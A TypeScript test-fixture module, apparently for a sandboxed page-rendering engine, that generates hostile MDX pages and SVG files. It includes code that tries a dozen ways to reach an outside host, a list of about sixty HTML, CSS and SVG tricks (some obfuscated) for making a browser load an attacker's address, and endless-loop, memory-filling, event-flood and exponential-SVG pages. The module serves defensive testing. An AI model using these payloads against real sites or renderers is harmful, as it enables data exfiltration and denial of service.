/** Pages of somebody who wants more than to show words. Every engine is to be as safe from them, so they stand here once. */

const front = (title: string): string => `---\ntitle: ${title}\n---\n\n`;

/**
 * A page whose code tries every way out that code on the web has, and lists what came of it: `name: reached` or the name of
 * an error.
 * @param host address that hears of what gets out, without a slash at its end
 */
export function pageOfWaysOut(host: string): string {
  return `${front('Ways out')}
export const attempt = (name, run) => {
  try { const result = run(); return name + ': ' + (result === undefined ? 'nothing' : 'reached ' + String(result)); }
  catch (error) { return name + ': ' + error.name; }
};
export const outcomes = [
  attempt('fetch', () => fetch('${host}/fetch')),
  attempt('global', () => (function () { return this; })()?.fetch('${host}/this')),
  attempt('eval', () => (0, eval)('fetch("${host}/eval")')),
  attempt('Function', () => Function('return fetch')()),
  attempt('constructor', () => (() => {}).constructor('return fetch')()),
  attempt('parent', () => parent.document),
  attempt('window', () => window.document),
  attempt('database', () => indexedDB.open('x')),
  attempt('import', () => importScripts('${host}/import')),
  attempt('font', () => new FontFace('Leak', 'url(${host}/font)').load()),
  attempt('worker', () => new Worker('${host}/worker')),
  attempt('socket', () => new WebSocket('${host.replace('http', 'ws')}/socket')),
];

<ul>{outcomes.map((outcome) => <li>{outcome}</li>)}</ul>

All were tried.
`;
}

/** How many ways that page tries. */
export const WAYS_OUT = 12;

/** Pages that never come to an end, by name: at once, and after a wait. */
export const ENDLESS_PAGES: Readonly<Record<string, string>> = {
  'endless-loop': `${front('Endless loop')}{(() => { while (true) {} })()}\n`,
  'endless-later': `${front('Endless later')}export const later = (async () => { await null; for (;;) {} })();\n\nWords.\n`,
};

export interface WayToLoad {
  readonly name: string;
  /** `AT` stands for the address, `HOST` for the address without its scheme. */
  readonly html: string;
  /** Every browser loads it like this, so that a test sees that it looks for the right thing. */
  readonly isUsual?: true;
}

/** Ways to have a browser load an address. */
export const WAYS_TO_LOAD: readonly WayToLoad[] = [
  { name: 'img', html: '<img src="AT" alt="">', isUsual: true },
  { name: 'srcset', html: '<img srcset="AT 1x, AT-large 2x" alt="">', isUsual: true },
  { name: 'picture', html: '<picture><source srcset="AT"><img alt=""></picture>', isUsual: true },
  { name: 'input', html: '<input type="image" src="AT" alt="x">', isUsual: true },
  { name: 'video', html: '<video src="AT" preload="auto"></video>', isUsual: true },
  { name: 'video-source', html: '<video preload="auto"><source src="AT"></video>', isUsual: true },
  { name: 'poster', html: '<video poster="AT"></video>', isUsual: true },
  { name: 'audio', html: '<audio src="AT" preload="auto" controls></audio>', isUsual: true },
  { name: 'track', html: '<video muted autoplay><track default kind="subtitles" src="AT"></video>' },
  {
    name: 'playlist',
    html: '<video preload="auto" src="data:application/vnd.apple.mpegurl,%23EXTM3U%0A%23EXTINF:1,%0AAT"></video>',
  },
  { name: 'iframe', html: '<iframe src="AT"></iframe>', isUsual: true },
  { name: 'srcdoc', html: `<iframe srcdoc="<img src='AT'>"></iframe>` },
  { name: 'srcdoc-refresh', html: `<iframe srcdoc="<meta http-equiv=refresh content='0;url=AT'>"></iframe>` },
  { name: 'frame-policy', html: '<iframe csp="report-uri AT" src="about:blank"></iframe>' },
  { name: 'object', html: '<object data="AT"></object>' },
  { name: 'embed', html: '<embed src="AT">' },
  { name: 'stylesheet', html: '<link rel="stylesheet" href="AT">' },
  { name: 'preload', html: '<link rel="preload" as="image" href="AT" imagesrcset="AT-set 1x">' },
  { name: 'prefetch', html: '<link rel="prefetch" href="AT">' },
  { name: 'speculation', html: '<script type="speculationrules">{"prefetch":[{"urls":["AT"]}]}</script>' },
  { name: 'refresh', html: '<meta http-equiv="refresh" content="0;url=AT">' },
  { name: 'base', html: '<base href="AT/"><img src="a.png" alt="">' },
  { name: 'script', html: '<script src="AT"></script>' },
  { name: 'svg-image', html: '<svg><image href="AT" width="9" height="9"/></svg>', isUsual: true },
  { name: 'svg-xlink', html: '<svg><image xlink:href="AT" width="9" height="9"/></svg>', isUsual: true },
  {
    name: 'svg-filter',
    html: '<svg><filter id="f"><feImage href="AT"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
  },
  { name: 'svg-use', html: '<svg><use href="AT#a"/></svg>' },
  { name: 'svg-fill', html: '<svg><rect width="9" height="9" fill="url(AT#a)"/></svg>' },
  { name: 'svg-mask', html: `<svg><rect width="9" height="9" mask="url('AT#a')"/></svg>` },
  { name: 'svg-set', html: '<svg><image width="9" height="9"><set attributeName="href" to="AT"/></image></svg>' },
  {
    name: 'svg-animate',
    html: '<svg><rect width="9" height="9"><animate attributeName="mask" dur="1s" values="url(AT#a);url(AT#b)"/></rect></svg>',
  },
  {
    name: 'svg-style',
    html: '<svg><style>.in-parts{mask:url(AT<!-- -->-part)}</style><rect class="in-parts" width="9" height="9"/></svg>',
  },
  { name: 'background', html: '<table background="AT"><tr><td>x</td></tr></table>', isUsual: true },
  { name: 'style', html: '<p style="background-image:url(AT)">x</p>', isUsual: true },
  { name: 'style-quoted', html: `<p style="background-image:url('AT')">x</p>`, isUsual: true },
  { name: 'style-open', html: '<p style="background-image:url(AT">x</p>', isUsual: true },
  { name: 'style-escaped', html: '<p style="background-image:\\75 r\\6c(AT)">x</p>', isUsual: true },
  { name: 'style-comment', html: `<p style="/*'*/background-image:url(AT)/*'*/">x</p>`, isUsual: true },
  { name: 'style-set', html: `<p style="background-image:image-set('AT' 1x)">x</p>`, isUsual: true },
  { name: 'style-list', html: '<ul><li style="list-style-image:url(AT)">x</li></ul>', isUsual: true },
  { name: 'sheet', html: '<style>.sheet{background:url(AT)}</style><p class="sheet">x</p>', isUsual: true },
  {
    name: 'sheet-content',
    html: '<style>.made::before{content:url("AT")}</style><p class="made">x</p>',
    isUsual: true,
  },
  {
    name: 'sheet-variable',
    html: '<style>.var{--a:"AT";background:image-set(var(--a) 1x)}</style><p class="var">x</p>',
  },
  {
    name: 'sheet-property',
    html: '<style>.prop{--b:url(AT);background:var(--b)}</style><p class="prop">x</p>',
    isUsual: true,
  },
  {
    name: 'sheet-attribute',
    html: '<style>.att{background:image-set(attr(data-at type(<string>)) 1x)}</style><p class="att" data-at="AT">x</p>',
  },
  { name: 'sheet-import', html: '<style>@import "AT";</style>' },
  { name: 'sheet-import-url', html: '<style>@\\69mport/**/url(AT);</style>' },
  {
    name: 'font',
    html: '<style>@font-face{font-family:F;src:url(AT)}.font{font-family:F}</style><p class="font">x</p>',
    isUsual: true,
  },
  { name: 'shadow', html: '<div><template shadowrootmode="open"><img src="AT"></template></div>' },
  {
    name: 'version',
    html: '<template data-version="v"><nav class="pagination"><img src="AT"></nav></template><header><a data-version="v" href="#">v</a></header>',
  },
  { name: 'attribution', html: '<img attributionsrc="AT" src="data:," alt="">' },
  { name: 'noscript', html: '<noscript><img src="AT"></noscript>' },
  { name: 'upper-case', html: '<img src="HTTP://HOST" alt="">', isUsual: true },
  { name: 'no-scheme', html: '<img src="//HOST" alt="">', isUsual: true },
  { name: 'backslashes', html: '<img src="http:\\\\HOST" alt="">', isUsual: true },
  { name: 'more-slashes', html: '<img src="http:///HOST" alt="">', isUsual: true },
  { name: 'credentials', html: '<img src="http://me:me@HOST" alt="">' },
  { name: 'tabs', html: '<img src="\n ht\ntp:/\t/HOST " alt="">' },
  { name: 'entities', html: '<img src="&#104;ttp&colon;&sol;/HOST" alt="">' },
];

/** A page that loads in all these ways what its code puts together: the address, with what the code knows. */
export function pageOfMadeAddresses(host: string): string {
  const ways = JSON.stringify(WAYS_TO_LOAD.map(({ name, html }) => [name, html]));
  return `${front('Made addresses')}
export const known = ['what', 'it', 'knows'].join('-');
export const ways = ${ways};
export const html = ways.map(([name, html]) => {
  const rest = ${JSON.stringify(host.replace('http://', ''))} + '/made-' + name + '-' + known;
  return html.replaceAll('AT', 'http://' + rest).replaceAll('HOST', rest);
}).join('\\n');

<div dangerouslySetInnerHTML={{ __html: html }} />

All ways are there.
`;
}

/** A page that loads the same from addresses that stand in its text. */
export function pageOfWrittenAddresses(host: string): string {
  const html = WAYS_TO_LOAD.filter(({ isUsual }) => isUsual)
    .map(({ name, html: way }) => {
      const rest = `${host.replace('http://', '')}/written-${name}`;
      return way.replaceAll('AT', `http://${rest}`).replaceAll('HOST', rest);
    })
    .join('\n');
  return `${front('Written addresses')}
<div dangerouslySetInnerHTML={{ __html: String.raw\`${html}\` }} />

All is written.
`;
}

/** A component with state that loads what it puts together, after a wait. */
export function pageOfMadeAddressesLater(host: string): string {
  return `${front('Later')}
export const Later = () => {
  const [at, setAt] = useState('');
  useEffect(() => {
    (async () => { await null; setAt('${host}' + '/later-' + [1, 2, 3].join('-')); })();
  }, []);
  if (at === '') return <p>Waiting</p>;
  return (
    <div>
      <img src={at + '-img'} alt="" />
      <p style={{ backgroundImage: 'url(' + at + '-style)' }}>Styled</p>
      <style>{'.a{background:url(' + at}{'-sheet)}'}</style>
      <p className="a">Sheet</p>
      <svg><style>{'.b{mask:url(' + at + '-drawing)}'}</style><image href={at + '-image'} width="9" height="9" /></svg>
      <p className="b">Drawing</p>
      <div dangerouslySetInnerHTML={{ __html: '<img src="' + at + '-html">' }} />
      <p>Loaded later</p>
    </div>
  );
};

<Later />
`;
}

const large = (name: string, code: string): string =>
  `${front(name)}Readable words.\n\n<div dangerouslySetInnerHTML={{ __html: ${code} }} />\n`;

/** Pages that are more than a browser can be given, by name. */
export const LARGE_PAGES: Readonly<Record<string, string>> = {
  // A little more than 20 million characters: more takes memory and no processor, which a clock of work does not see.
  long: large('Long', "'long words '.repeat(2_000_000)"),
  many: large('Many', "'<b>x</b>'.repeat(200_000)"),
  deep: large('Deep', "'<div>'.repeat(100_000) + '</div>'.repeat(100_000)"),
  copies: large(
    'Copies',
    `'<svg><g id="g0"><path d="M0 0h1"/></g>' + Array.from({ length: 40 }, (_, level) =>
      '<g id="g' + (level + 1) + '"><use href="#g' + level + '"/><use href="#g' + level + '"/></g>').join('') + '</svg>'`,
  ),
};

const filling = (name: string, code: string): string =>
  `${front(name)}Readable words.\n\n{(() => { const held = []; for (;;) held.push(${code}); })()}\n`;

/**
 * Pages that would fill the memory of the machine with buffers, by name. They write next to nothing into the buffers: what is
 * asked for counts, and where memory is slow to come, writing takes longer than a page may. So the one that makes copies
 * begins shortly below the bound, and the small ones are so large that the system gives them memory when it is written to.
 */
export const FILLING_PAGES: Readonly<Record<string, string>> = {
  made: filling('Made', 'new Uint8Array(50_000_000)'),
  found: filling('Found', 'new (new TextEncoder().encode("").constructor)(50_000_000)'),
  copied: filling('Copied', 'held.length < 12 ? new Float64Array(5_000_000) : held[0].slice()'),
  small: filling('Small', 'new Uint8Array(1_000_000)'),
};

/** The same after a turn: nothing is left to be told of by then. */
export const FILLING_LATER = `${front('Later')}export const later = (async () => {
  await null;
  const held = [];
  try {
    for (;;) held.push(new Uint8Array(50_000_000));
  } catch {}
})();

Readable words.
`;

/**
 * A page within all limits that a browser never comes to an end with: each clip path is made of ten others, by way of a style
 * sheet, where nobody counts.
 */
export const STUCK_PAGE = `${front('Stuck')}Readable words.

export const levels = Array.from({ length: 30 }, (_, at) => at);
export const rules = levels.map((at) => '.c' + (at + 1) + '{clip-path:url("#c' + at + '")}').join('');
export const paths = levels.map((at) =>
  '<clipPath id="c' + (at + 1) + '">' + ('<rect class="c' + (at + 1) + '" width="900" height="900"/>').repeat(10) + '</clipPath>');
export const drawing = '<svg width="900" height="900"><clipPath id="c0"><rect width="9" height="9"/></clipPath>' + paths.join('')
  + '<rect style="clip-path:url(#c30)" width="900" height="900"/></svg>';

<div dangerouslySetInnerHTML={{ __html: '<style>' + rules + '</style>' + drawing }} />
`;

/** Pages whose components keep the view busy with messages, by name. */
export const FLOODING_PAGES: Readonly<Record<string, string>> = {
  'flood-of-changes': `${front('Changes')}
export const Changes = () => {
  const [count, setCount] = useState(0);
  useEffect(() => {
    (async () => { for (;;) { await new Promise((go) => setTimeout(go)); setCount((before) => before + 1); } })();
  }, []);
  return <ul>{Array.from({ length: 2000 }, (_, at) => <li key={at}>{count + at}</li>)}</ul>;
};

<Changes />

Below the flood.
`,
  'flood-of-reports': `${front('Reports')}
export const Reports = () => {
  useEffect(() => {
    const again = () => {
      for (let at = 0; at < 5000; at++) { addEventListener('made' + Math.random(), again); fetch('/x').catch(() => 0); }
      setTimeout(again);
    };
    again();
  }, []);
  return <p>Reports go on</p>;
};

<Reports />

Below the flood.
`,
  'flood-of-turns': `${front('Turns')}
export const Turns = () => {
  useEffect(() => {
    const again = () => queueMicrotask(again);
    setTimeout(again);
  }, []);
  return <p>Turns begin</p>;
};

<Turns />

<Turns />

Below the flood.
`,
};

/** A component that grows beyond what a browser can show. */
export const GROWING_PAGE = `${front('Growing')}
export const Growing = () => {
  const [count, setCount] = useState(1);
  useEffect(() => { setCount(100_000); }, []);
  return <div>{Array.from({ length: count }, (_, at) => <b key={at}>x</b>)}</div>;
};

<Growing />

Below the growth.
`;

const levels = (make: (level: number) => string): string => Array.from({ length: 40 }, (_, at) => make(at)).join('');
const drawing = (inner: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 900 900" width="900" height="900">${inner}</svg>`;

/** Files of a project that are drawings, each a few lines long. */
export const ENDLESS_DRAWINGS: Readonly<Record<string, string>> = {
  'clips.svg': drawing(
    `<style>${levels((at) => `.c${at + 1}{clip-path:url("#c${at}")}`)}</style><clipPath id="c0"><rect width="9" height="9"/></clipPath>${levels(
      (at) =>
        `<clipPath id="c${at + 1}">${`<rect class="c${at + 1}" width="900" height="900"/>`.repeat(10)}</clipPath>`,
    )}<rect style="clip-path:url(#c40)" width="900" height="900"/>`,
  ),
  'copies.svg': drawing(
    `<g id="g0"><path d="M0 0h1"/></g>${levels(
      (at) => `<g id="g${at + 1}"><use href="#g${at}"/><use href="#g${at}"/></g>`,
    )}`,
  ),
  'patterns.svg': drawing(
    `${levels(
      (at) =>
        `<pattern id="p${at + 1}" width="1" height="1">${`<rect fill="url(#p${at})" width="900" height="900"/>`.repeat(10)}</pattern>`,
    )}<rect fill="url(#p40)" width="900" height="900"/>`,
  ),
};
